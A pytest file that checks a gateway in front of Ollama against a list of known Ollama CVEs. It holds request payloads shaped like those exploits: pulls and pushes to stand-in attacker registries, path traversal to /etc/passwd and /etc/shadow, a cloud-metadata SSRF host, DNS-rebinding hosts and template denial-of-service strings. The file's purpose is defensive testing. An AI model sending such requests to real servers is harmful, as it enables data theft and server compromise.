"""Ollama's own holes, with the shape of their requests: through this gate none of them reaches anything."""

from typing import Any

import pytest

from tests.flow.gates import TestGate
from tests.flow.incidents.asked import demand_no_route, demand_refused

DIGEST = "sha256:" + "0" * 64
PULL_HOST = {"model": "169.254.169.254/library/x", "insecure": True}
CREATE = {"model": "x", "files": {"a.gguf": DIGEST}}

MANAGEMENT: list[tuple[str, str, str, Any]] = [
    ("CVE-2024-37032 Probllama pull", "POST", "/api/pull", {"name": "http://evil.example/rogue/x", "insecure": True}),
    ("CVE-2024-37032 Probllama push", "POST", "/api/push", {"name": "http://evil.example/rogue/x", "insecure": True}),
    ("CVE-2025-44779", "POST", "/api/pull", {"name": "evil.example/x"}),
    ("CVE-2024-39721", "POST", "/api/create", {"name": "x", "path": "/dev/random"}),
    ("CVE-2024-39720", "POST", f"/api/blobs/{DIGEST}", b"GGUF"),
    ("CVE-2024-39722", "POST", "/api/push", {"name": "../../etc/passwd"}),
    ("CVE-2024-39719", "POST", "/api/create", {"path": "/etc/shadow"}),
    ("CVE-2024-7773", "POST", f"/api/blobs/{DIGEST}", b"PK\x03\x04../x"),
    ("CVE-2024-45436", "POST", "/api/create", {"name": "x", "files": {"../x": DIGEST}}),
    ("CVE-2024-8063", "POST", "/api/create", CREATE),
    ("CVE-2024-12055", "POST", "/api/create", CREATE),
    ("CVE-2024-12886", "POST", "/api/pull", {"model": "evil.example/bomb"}),
    ("CVE-2025-0312", "POST", "/api/create", CREATE),
    ("CVE-2025-0313", "POST", "/api/create", CREATE),
    ("CVE-2025-0315", "POST", "/api/create", CREATE),
    ("CVE-2025-0317", "POST", "/api/create", CREATE),
    ("CVE-2025-1975", "POST", "/api/pull", {"model": "evil.example/x"}),
    ("CVE-2025-51471", "POST", "/api/pull", {"model": "evil.example/x"}),
    ("CVE-2025-63389 create", "POST", "/api/create", CREATE),
    ("CVE-2025-63389 copy", "POST", "/api/copy", {"source": "m", "destination": "n"}),
    ("CVE-2025-63389 pull", "POST", "/api/pull", {"model": "x"}),
    ("CVE-2025-63389 delete", "DELETE", "/api/delete", {"model": "m"}),
    ("CVE-2025-66959", "POST", "/api/create", CREATE),
    ("CVE-2025-66960", "POST", "/api/create", CREATE),
    ("CVE-2026-15685", "POST", "/api/pull", {"model": "evil.example/x"}),
    ("CVE-2026-5530", "POST", "/api/pull", PULL_HOST),
    ("CVE-2026-5757 quantize", "POST", "/api/create", CREATE | {"quantize": "q4_0"}),
    ("CVE-2026-5757 push", "POST", "/api/push", {"model": "evil.example/x"}),
    ("CVE-2026-7020", "POST", "/api/pull", {"model": "evil.example/x"}),
    ("CVE-2026-7482 Bleeding Llama blob", "POST", f"/api/blobs/{DIGEST}", b"GGUF" + b"\xff" * 60),
    ("CVE-2026-7482 Bleeding Llama create", "POST", "/api/create", CREATE | {"quantize": "q4_0"}),
    ("CVE-2026-7482 Bleeding Llama push", "POST", "/api/push", {"name": "attacker.host/x", "insecure": True}),
    ("CVE-2026-65315", "POST", f"/api/blobs/{DIGEST}", b"GGUF"),
    ("CVE-2026-108836", "POST", "/api/pull", PULL_HOST),
]


@pytest.mark.parametrize(
    ("method", "target", "body"), [row[1:] for row in MANAGEMENT], ids=[row[0] for row in MANAGEMENT]
)
async def test_no_management_through_the_gate(gate: TestGate, method: str, target: str, body: Any) -> None:
    await demand_no_route(gate, method, target, body)


@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:11434", "rebind.127.0.0.1.nip.example"])
async def test_cve_2024_28224_dns_rebinding(gate: TestGate, host: str) -> None:
    reply, _ = await gate.send("GET", "/api/tags", headers=(("X-Real-Host", "localhost"),), host=host)
    assert reply.status == 421


@pytest.mark.parametrize("image", ["AAAA", "", "!!!!"])
async def test_cve_2025_15514_bad_image_bytes(gate: TestGate, image: str) -> None:
    messages = [{"role": "user", "content": "what is this", "images": [image]}]
    await demand_refused(gate, "/api/chat", {"messages": messages})


@pytest.mark.parametrize(
    "name",
    ["http://evil.example/x", "evil.example/library/x", "../../etc/passwd", "m:cloud", "M\u202e", "m\x00", "m/../m"],
)
@pytest.mark.parametrize("path", ["/api/chat", "/api/generate", "/api/embed", "/api/show", "/v1/chat/completions"])
async def test_kubeai_cve_2026_34940_a_name_is_looked_up_and_nothing_else(gate: TestGate, path: str, name: str) -> None:
    gate.take_policy(teams={**gate.policy.teams, "one": gate.policy.teams["two"]})
    await demand_refused(gate, path, {"model": name}, 400, 404)


@pytest.mark.parametrize("template", ["{{range 1 | until 1e9}}x{{end}}", '{{printf "%99999999d" 1}}'])
async def test_a_callers_template_is_never_run(gate: TestGate, template: str) -> None:
    reply, _ = await gate.send("POST", "/api/generate", {"model": "m", "prompt": "p", "template": template})
    assert reply.status == 400 or all(template not in repr(call) for call in gate.engine.calls)
